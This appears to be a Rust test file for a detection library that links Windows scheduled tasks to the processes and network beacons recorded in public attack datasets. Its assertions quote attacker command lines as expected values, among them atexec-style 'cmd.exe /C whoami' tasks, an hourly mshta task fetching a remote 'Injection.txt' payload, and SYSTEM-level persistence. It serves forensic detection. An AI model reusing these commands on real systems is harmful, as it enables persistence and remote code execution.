@@ -1,0 +1,498 @@
+//! AN0258 lineage reconstructed from real exports, with exact expected values.
+mod common;
+
+use beaconstat::{
+    CoverageGap, CreationMethod, DefinitionSource, Interval, LifeKind, Lineage, LineageBuilder, Reason, TaskEventKind,
+    TaskRole, Timestamp,
+};
+use std::path::PathBuf;
+
+fn lineage(files: &[PathBuf]) -> Lineage {
+    let mut b = LineageBuilder::new();
+    for f in files {
+        let (_, skipped) = common::read_events(f, |rec| b.push_record(rec));
+        assert_eq!(skipped, 0, "{}", f.display());
+    }
+    b.build()
+}
+
+fn ts(s: &str) -> Timestamp {
+    Timestamp::parse_rfc3339(s).unwrap()
+}
+
+fn reasons(t: &beaconstat::Task) -> Vec<Reason> {
+    t.findings.iter().map(|f| f.reason).collect()
+}
+
+/// Case 3: remote COM modification of a built-in task (WORKSTATION6) and the full run chain
+/// 108 → 129 → 100 → 200 → 201 → 102 of a built-in task joined to taskhostw.exe (WORKSTATION5).
+#[test]
+fn otrf_remote_modification_and_full_run_chain() {
+    let Some(dir) = common::data("tasks_otrf") else { return };
+    let lin = lineage(&[dir.join("schtask_modification_2020-12-1907505969.json")]);
+
+    // Clocks: TimeCreated is local time labelled UTC, 5 h behind Sysmon UtcTime.
+    assert_eq!(lin.clocks.len(), 2);
+    for c in &lin.clocks {
+        assert_eq!(c.correction, Interval::from_secs(5 * 3600), "{}", c.host);
+    }
+    assert!(
+        lin.coverage
+            .gaps
+            .iter()
+            .all(|g| matches!(g, CoverageGap::ClockDisagreement { .. }))
+    );
+
+    // The run chain on WORKSTATION5.
+    let h5 = lin.host("WORKSTATION5.theshire.local").unwrap();
+    let t = lin
+        .task(
+            "WORKSTATION5",
+            r"\Microsoft\Windows\LanguageComponentsInstaller\Installation",
+        )
+        .unwrap();
+    assert!(t.builtin);
+    assert_eq!(t.creation.method, CreationMethod::PreExisting);
+    assert!(t.findings.is_empty(), "built-in tasks are baseline");
+    assert_eq!(t.runs.len(), 1);
+    let r = &t.runs[0];
+    assert_eq!(r.instance_id.as_deref(), Some("{0503ac85-e5db-4e1a-8659-3dc76a5c89ca}"));
+    assert_eq!(r.events, [108, 129, 100, 200, 201, 102]);
+    assert_eq!(r.trigger, Some(TaskEventKind::EventTriggered));
+    assert_eq!(r.engine_pid, Some(1532));
+    assert_eq!(r.path.as_deref(), Some("taskhostw.exe"));
+    assert_eq!(r.action_name.as_deref(), Some("Language Components Installer"));
+    assert_eq!(r.result_code.as_deref(), Some("0"));
+    // 07:50:26.095 local = 12:50:26.095 UTC after the clock correction.
+    assert_eq!(r.started, Some(ts("2020-12-19T12:50:26.095Z")));
+    assert_eq!(r.ended, Some(ts("2020-12-19T12:50:26.667Z")));
+    let p = &h5.processes[r.launched.unwrap()];
+    assert_eq!(p.guid.as_deref(), Some("{67e11d8c-f712-5fdd-ad97-000000000700}"));
+    assert_eq!(p.pid, Some(1532));
+    assert_eq!(p.image.as_deref(), Some(r"C:\Windows\System32\taskhostw.exe"));
+    assert_eq!(p.command_line.as_deref(), Some("taskhostw.exe Install $(Arg0)"));
+    assert_eq!(
+        p.parent_command_line.as_deref(),
+        Some(r"C:\windows\system32\svchost.exe -k netsvcs -p -s Schedule")
+    );
+    assert_eq!(p.ts, ts("2020-12-19T12:50:26.098Z"));
+    assert_eq!(r.processes, [r.launched.unwrap()]);
+    assert_eq!(
+        r.join.as_deref(),
+        Some(
+            "engine PID 1532 (TaskScheduler 129) = taskhostw.exe started 0.003 s from the run's first event; \
+             parent is the Schedule service (svchost -s Schedule)"
+        )
+    );
+    // The beacon-join lookup, by GUID and by PID.
+    let link = lin
+        .task_for_process("WORKSTATION5", "{67e11d8c-f712-5fdd-ad97-000000000700}", Timestamp::MAX)
+        .unwrap();
+    assert_eq!(link.role, TaskRole::Launched);
+    assert_eq!(link.task.name, t.name);
+    let link = lin
+        .task_for_process("WORKSTATION5.theshire.local", 1532u32, ts("2020-12-19T12:51:00Z"))
+        .unwrap();
+    assert_eq!(
+        link.run.and_then(|r| r.instance_id.as_deref()),
+        r.instance_id.as_deref()
+    );
+
+    // The remote modification on WORKSTATION6.
+    let t = lin
+        .task(
+            "WORKSTATION6.theshire.local",
+            r"\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager",
+        )
+        .unwrap();
+    assert!(!t.builtin, "changed by a user over the network");
+    assert_eq!(t.creation.method, CreationMethod::Remote);
+    assert!(t.creation.remote);
+    assert_eq!(t.creation.remote_source.as_deref(), Some("172.18.39.5"));
+    assert_eq!(t.creation.user.as_deref(), Some(r"THESHIRE\pgustavo"));
+    assert_eq!(t.creation.logon_id, Some(0xec0ba8f));
+    let kinds: Vec<LifeKind> = t.life.iter().map(|l| l.what).collect();
+    assert_eq!(kinds, [LifeKind::RegistryWritten, LifeKind::Updated, LifeKind::Updated]);
+    assert_eq!(t.life[1].ts, ts("2020-12-19T12:50:49.220Z"));
+    let d = t.definition.as_ref().unwrap();
+    assert_eq!(t.definition_source, Some(DefinitionSource::Xml));
+    assert!(d.truncated);
+    assert_eq!(d.exec().map(|e| e.0), Some("powershell"));
+    assert_eq!(t.period, None, "boot trigger");
+    let r = reasons(t);
+    for want in [
+        Reason::RemoteCreation,
+        Reason::BuiltinModified,
+        Reason::EncodedPowerShell,
+    ] {
+        assert!(r.contains(&want), "{want:?} in {r:?}");
+    }
+    assert!(t.runs.is_empty(), "no run of the modified task inside the capture");
+}
+
+/// `schtasks /create /S WORKSTATION6` on WORKSTATION5: the 4698 on WORKSTATION6 (ClientProcessId
+/// 0, locality 0) is tied across hosts to the schtasks.exe that made it.
+#[test]
+fn otrf_remote_schtasks_creation_across_hosts() {
+    let Some(dir) = common::data("tasks_otrf") else { return };
+    let lin = lineage(&[dir.join("schtask_create_2020-12-1907003032.json")]);
+    let t = lin
+        .task(
+            "WORKSTATION6",
+            r"\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager",
+        )
+        .unwrap();
+    assert_eq!(t.creation.method, CreationMethod::Schtasks);
+    assert!(t.creation.remote);
+    assert_eq!(t.creation.remote_source.as_deref(), Some("172.18.39.5"));
+    let pl = t.creation.process.as_ref().unwrap();
+    assert_eq!(pl.host, "WORKSTATION5.theshire.local");
+    let chain: Vec<_> = lin
+        .creator_chain(t)
+        .iter()
+        .map(|(h, i)| h.processes[*i].image_name().unwrap_or("").to_owned())
+        .collect();
+    // cmd.exe's parent powershell.exe started before the capture: named, not in the data.
+    assert_eq!(chain, ["schtasks.exe", "cmd.exe"]);
+    let (h5, cmd) = lin.creator_chain(t)[1];
+    assert_eq!(
+        h5.processes[cmd].parent_image.as_deref(),
+        Some(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
+    );
+    let creator = &lin.host(&pl.host).unwrap().processes[pl.index];
+    assert_eq!(creator.pid, Some(8920));
+    assert_eq!(creator.guid.as_deref(), Some("{67e11d8c-eb56-5fdd-2097-000000000700}"));
+    assert!(reasons(t).contains(&Reason::ScriptHostCreator));
+    let d = t.definition.as_ref().unwrap();
+    assert_eq!(
+        d.exec(),
+        Some((
+            r"C:\Windows\system32\cmd.exe",
+            Some(r"/C C:\Windows\System32\notepad.exe")
+        ))
+    );
+    let link = lin
+        .task_for_process("WORKSTATION5", "{67e11d8c-eb56-5fdd-2097-000000000700}", Timestamp::MAX)
+        .unwrap();
+    assert_eq!(link.role, TaskRole::Creator);
+    assert_eq!(link.host.host, "WORKSTATION6.theshire.local");
+}
+
+/// The `.evtx` cases (decoded by the `evtx` dev-dependency, so they run without the feature).
+mod evtx {
+    use super::*;
+
+    /// Case 1: atexec-style remote hidden task created and deleted within a second.
+    #[test]
+    fn atexec_remote_hidden_short_lived_task() {
+        let Some(dir) = common::data("tasks_evtx_attack") else {
+            return;
+        };
+        // The second file repeats two records of the first: they are counted once.
+        let lin = lineage(&[
+            dir.join("LM_ScheduledTask_ATSVC_target_host.evtx"),
+            dir.join("temp_scheduled_task_4698_4699.evtx"),
+        ]);
+        assert_eq!(lin.coverage.duplicates, 2);
+        assert_eq!(lin.coverage.records, 34);
+        let h = lin.host("WIN-77LTAPHIQ1R.example.corp").unwrap();
+        assert_eq!(h.tasks.len(), 1);
+        let t = &h.tasks[0];
+        assert_eq!(t.name, r"\CYAlyNSS");
+        assert_eq!(t.creation.method, CreationMethod::Remote);
+        assert!(t.creation.remote);
+        assert_eq!(t.creation.remote_source.as_deref(), Some("10.0.2.17"));
+        assert_eq!(t.creation.user.as_deref(), Some(r"EXAMPLE\Administrator"));
+        assert_eq!(t.creation.logon_id, Some(0x17e2d2));
+        assert!(t.creation.evidence.iter().any(|e| e.contains("atsvc")));
+        assert!(t.hidden);
+        assert!(t.short_lived);
+        assert_eq!(t.created, Some(ts("2019-03-19T00:02:04.319945Z")));
+        assert_eq!(t.deleted, Some(ts("2019-03-19T00:02:04.351252Z")));
+        let d = t.definition.as_ref().unwrap();
+        assert_eq!(
+            d.exec(),
+            Some(("cmd.exe", Some(r"/C tasklist > %windir%\Temp\CYAlyNSS.tmp 2>&1")))
+        );
+        assert!(d.principal.is_system());
+        // The run: cmd.exe (0xbcc) right after the 4698, then conhost and tasklist.
+        assert_eq!(t.runs.len(), 1);
+        let pids: Vec<_> = t.runs[0].processes.iter().map(|&i| h.processes[i].pid).collect();
+        assert_eq!(pids, [Some(0xbcc), Some(0xebc), Some(0x970)]);
+        let r = reasons(t);
+        for want in [
+            Reason::Hidden,
+            Reason::RandomName,
+            Reason::RemoteCreation,
+            Reason::ShortLived,
+            Reason::UserWritablePath,
+        ] {
+            assert!(r.contains(&want), "{want:?} in {r:?}");
+        }
+        // 4688 version 1 has no command lines.
+        assert!(
+            lin.coverage
+                .gaps
+                .contains(&CoverageGap::MissingCommandLines { without: 4, total: 4 })
+        );
+        assert!(lin.coverage.gaps.contains(&CoverageGap::NoSysmon1));
+    }
+
+    /// Case 1 again on the other lab: atexec's `cmd.exe /C whoami > C:\Windows\Temp\….tmp 2>&1`.
+    #[test]
+    fn atexec_mitre_global() {
+        let Some(dir) = common::data("tasks_evtx_mitre") else {
+            return;
+        };
+        let lin = lineage(&[dir.join("ID4688_4698_4699_5145_4624-ATexec_remote_trask_creation__GLOBAL_.evtx")]);
+        let t = lin.task("fs01", "bouWFQYO").unwrap();
+        assert_eq!(t.creation.method, CreationMethod::Remote);
+        assert_eq!(t.creation.remote_source.as_deref(), Some("10.23.123.11"));
+        assert!(t.hidden && t.short_lived);
+        assert_eq!(
+            t.deleted.zip(t.created).map(|(d, c)| d - c),
+            Some(Interval::from_micros(22_926))
+        );
+        let h = lin.host("fs01.offsec.lan").unwrap();
+        let r = &t.runs[0];
+        let p = &h.processes[r.launched.unwrap()];
+        assert_eq!(p.pid, Some(976));
+        assert_eq!(
+            p.command_line.as_deref(),
+            Some(r"cmd.exe /C whoami > C:\Windows\Temp\bouWFQYO.tmp 2>&1")
+        );
+        assert_eq!(p.parent_image.as_deref(), Some(r"C:\Windows\System32\svchost.exe"));
+        let images: Vec<_> = r
+            .processes
+            .iter()
+            .map(|&i| h.processes[i].image_name().unwrap())
+            .collect();
+        assert_eq!(images, ["cmd.exe", "conhost.exe", "whoami.exe"]);
+        assert!(
+            t.findings
+                .iter()
+                .any(|f| f.reason == Reason::ScriptHost && f.process == r.launched)
+        );
+        let link = lin
+            .task_for_process("fs01", 5188u32, ts("2021-06-10T21:21:27Z"))
+            .unwrap();
+        assert_eq!(link.role, TaskRole::Descendant);
+        assert_eq!(link.task.name, r"\bouWFQYO");
+    }
+
+    /// Case 2: `schtasks /SC MINUTE /MO 60` running mshta against a URL; the creator chain's
+    /// mshta.exe made the Sysmon 3 connections.
+    #[test]
+    fn schtasks_mshta_every_60_minutes() {
+        let Some(dir) = common::data("tasks_evtx_attack") else {
+            return;
+        };
+        let lin = lineage(&[dir.join("exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx")]);
+        let t = lin.task("IEWIN7", r"\MSOFFICE_").unwrap();
+        assert_eq!(t.creation.method, CreationMethod::Schtasks);
+        assert_eq!(t.creation.user.as_deref(), Some(r"IEWIN7\IEUser"));
+        assert_eq!(t.definition_source, Some(DefinitionSource::CommandLine));
+        assert_eq!(t.period, Some(Interval::from_secs(3600)));
+        let d = t.definition.as_ref().unwrap();
+        assert_eq!(
+            d.exec(),
+            Some(("mshta.exe", Some("https://hotelesms.com/Injection.txt")))
+        );
+        let kinds: Vec<_> = t.life.iter().map(|l| (l.what, l.ts)).collect();
+        assert_eq!(
+            kinds,
+            [
+                (LifeKind::Created, ts("2019-05-21T15:32:59.729Z")),
+                (LifeKind::FileWritten, ts("2019-05-21T15:32:59.809Z"))
+            ]
+        );
+        let chain: Vec<_> = lin
+            .creator_chain(t)
+            .iter()
+            .map(|(h, i)| (h.processes[*i].image_name().unwrap().to_owned(), h.processes[*i].pid))
+            .collect();
+        assert_eq!(
+            chain,
+            [
+                ("schtasks.exe".to_owned(), Some(3772)),
+                ("mshta.exe".to_owned(), Some(2432)),
+                ("rundll32.exe".to_owned(), Some(2920)),
+                ("cmd.exe".to_owned(), Some(1532)),
+            ]
+        );
+        let conns: Vec<_> = lin
+            .creator_connections(t)
+            .iter()
+            .map(|c| (c.dst.clone(), c.dst_port, c.name.clone()))
+            .collect();
+        assert_eq!(
+            conns,
+            [
+                (
+                    "108.179.232.58".to_owned(),
+                    Some(443),
+                    Some("gator4243.hostgator.com".to_owned())
+                ),
+                (
+                    "105.73.6.112".to_owned(),
+                    Some(80),
+                    Some("aka112.inwitelecom.net".to_owned())
+                ),
+                (
+                    "105.73.6.105".to_owned(),
+                    Some(80),
+                    Some("aka105.inwitelecom.net".to_owned())
+                ),
+            ]
+        );
+        // The beaconing mshta.exe → the task it had created, with its period.
+        let link = lin
+            .task_for_process("IEWIN7", "{365abb72-1a29-5ce4-0000-001079f92101}", Timestamp::MAX)
+            .unwrap();
+        assert_eq!(link.role, TaskRole::CreatorAncestor);
+        assert_eq!(link.task.name, r"\MSOFFICE_");
+        assert_eq!(link.period(), Some(Interval::from_secs(3600)));
+        assert_eq!(link.method(), CreationMethod::Schtasks);
+        assert_eq!(link.creator_user(), Some(r"IEWIN7\IEUser"));
+        assert_eq!(link.created(), Some(ts("2019-05-21T15:32:59.729Z")));
+        // By image name alone (telemetry without GUID or PID).
+        let by_image = lin
+            .task_for_process("IEWIN7", beaconstat::ProcessKey::Image("mshta.exe"), Timestamp::MAX)
+            .unwrap();
+        assert_eq!(by_image.task.name, r"\MSOFFICE_");
+        // Straight from the Sysmon 3 records: each of mshta's connections leads to the task.
+        let mut n = 0;
+        common::read_events(
+            &dir.join("exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx"),
+            |rec| {
+                if let Some(c) = beaconstat::sysmon_conn_event(rec) {
+                    let link = lin.task_for_conn(&c).unwrap();
+                    assert_eq!(
+                        (link.task.name.as_str(), link.role),
+                        (r"\MSOFFICE_", TaskRole::CreatorAncestor)
+                    );
+                    n += 1;
+                }
+            },
+        );
+        assert_eq!(n, 3);
+        let r = reasons(t);
+        assert!(
+            r.contains(&Reason::Lolbin) && r.contains(&Reason::ScriptHostCreator),
+            "{r:?}"
+        );
+        // Sysmon 3's UtcTime is ~8.5 h off TimeCreated on this host: reported, not corrected.
+        let c = &lin.clocks[0];
+        assert_eq!(
+            (c.host.as_str(), c.disagreeing, c.correction),
+            ("IEWIN7", 3, Interval::ZERO)
+        );
+        assert!(lin.coverage.gaps.contains(&CoverageGap::NoTaskEvents));
+    }
+
+    /// Case 4: Windows 7 chain, taskeng.exe {GUID} S-1-5-18 → cmd.exe as SYSTEM.
+    #[test]
+    fn windows7_taskeng_chain() {
+        let Some(dir) = common::data("tasks_evtx_attack") else {
+            return;
+        };
+        let lin = lineage(&[dir.join("sysmon_1_11_exec_as_system_via_schedtask.evtx")]);
+        let h = lin.host("IEWIN7").unwrap();
+        let t = lin.task("IEWIN7", "elevator").unwrap();
+        assert_eq!(t.creation.method, CreationMethod::Schtasks);
+        let creator = &h.processes[t.creation.process.as_ref().unwrap().index];
+        assert_eq!(creator.pid, Some(3876));
+        assert_eq!(creator.parent_image.as_deref(), Some(r"C:\Python27\python.exe"));
+        let kinds: Vec<_> = t.life.iter().map(|l| l.what).collect();
+        assert_eq!(
+            kinds,
+            [
+                LifeKind::Created,
+                LifeKind::FileWritten,
+                LifeKind::RunRequested,
+                LifeKind::Deleted
+            ]
+        );
+        assert!(t.short_lived);
+        assert_eq!(t.runs.len(), 1);
+        let r = &t.runs[0];
+        let p = &h.processes[r.launched.unwrap()];
+        assert_eq!(p.guid.as_deref(), Some("{365abb72-69a3-5cd7-0000-00109d7f2200}"));
+        assert_eq!(p.pid, Some(1860));
+        assert_eq!(p.user.as_deref(), Some(r"NT AUTHORITY\SYSTEM"));
+        assert_eq!(
+            p.parent_command_line.as_deref(),
+            Some(r"taskeng.exe {9C7BC894-6658-423B-9B58-61636DBB1451} S-1-5-18:NT AUTHORITY\System:Service:")
+        );
+        assert_eq!(r.started, Some(ts("2019-05-12T00:32:35.289Z")));
+        let join = r.join.as_deref().unwrap();
+        assert!(join.contains("schtasks /run") && join.contains("taskeng.exe"), "{join}");
+        assert!(reasons(t).contains(&Reason::ScriptHostCreator), "python.exe made it");
+        let link = lin
+            .task_for_process("IEWIN7", "{365abb72-69a3-5cd7-0000-00109d7f2200}", Timestamp::MAX)
+            .unwrap();
+        assert_eq!((link.role, link.task.name.as_str()), (TaskRole::Launched, r"\elevator"));
+    }
+
+    /// A COM-handler task run with no task events: reported as a run not tied to a task,
+    /// svchost Schedule → taskhostw.exe → cmd.exe.
+    #[test]
+    fn com_handler_run_without_task_events() {
+        let Some(dir) = common::data("tasks_evtx_attack") else {
+            return;
+        };
+        let lin = lineage(&[dir.join("sysmon_uacbypass_CDSSync_schtask_hijack_byeintegrity5.evtx")]);
+        let h = lin.host("LAPTOP-JU4M3I0E").unwrap();
+        assert!(h.tasks.is_empty());
+        assert_eq!(h.unattributed_runs.len(), 1);
+        let images: Vec<_> = h.unattributed_runs[0]
+            .processes
+            .iter()
+            .map(|&i| h.processes[i].image_name().unwrap())
+            .collect();
+        assert_eq!(images, ["taskhostw.exe", "cmd.exe"]);
+    }
+
+    /// `schtasks /create /sc minute /mo 1 /ru SYSTEM` (4688) + its 4698 with `PT1M`; and `at`.
+    #[test]
+    fn mitre_every_minute_system_task_and_at() {
+        let Some(dir) = common::data("tasks_evtx_mitre") else {
+            return;
+        };
+        let lin = lineage(&[
+            dir.join("ID4688-4698_Persistent_scheduled_task_with_SYSTEM_privileges_creation.evtx"),
+            dir.join("ID4688-Interactive_shell_using_AT_schedule_task.evtx"),
+        ]);
+        let t = lin.task("srvdefender01.offsec.lan", "eviltask").unwrap();
+        assert_eq!(t.creation.method, CreationMethod::Schtasks);
+        assert_eq!(t.creation.user.as_deref(), Some(r"OFFSEC\admmig"));
+        assert_eq!(t.creation.logon_id, Some(0x6fc89e));
+        let h = lin.host("srvdefender01").unwrap();
+        let creator = &h.processes[t.creation.process.as_ref().unwrap().index];
+        assert_eq!(creator.pid, Some(0x15b4));
+        assert_eq!(
+            creator.parent_image.as_deref(),
+            Some(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
+        );
+        assert_eq!(t.definition_source, Some(DefinitionSource::Xml));
+        assert_eq!(t.period, Some(Interval::from_secs(60)));
+        assert!(t.definition.as_ref().unwrap().principal.is_system());
+        let r = reasons(t);
+        assert!(
+            r.contains(&Reason::ShortRepetition) && r.contains(&Reason::ScriptHostCreator),
+            "{r:?}"
+        );
+        let kinds: Vec<_> = t.life.iter().map(|l| (l.what, l.source.as_str())).collect();
+        assert_eq!(
+            kinds,
+            [
+                (LifeKind::Created, "schtasks /create"),
+                (LifeKind::Created, "Security 4698")
+            ]
+        );
+
+        let at = lin.task("fs01.offsec.lan", r"\At").unwrap();
+        assert_eq!(at.creation.method, CreationMethod::At);
+        assert_eq!(at.definition.as_ref().and_then(|d| d.exec()), Some(("cmd", None)));
+    }
+}
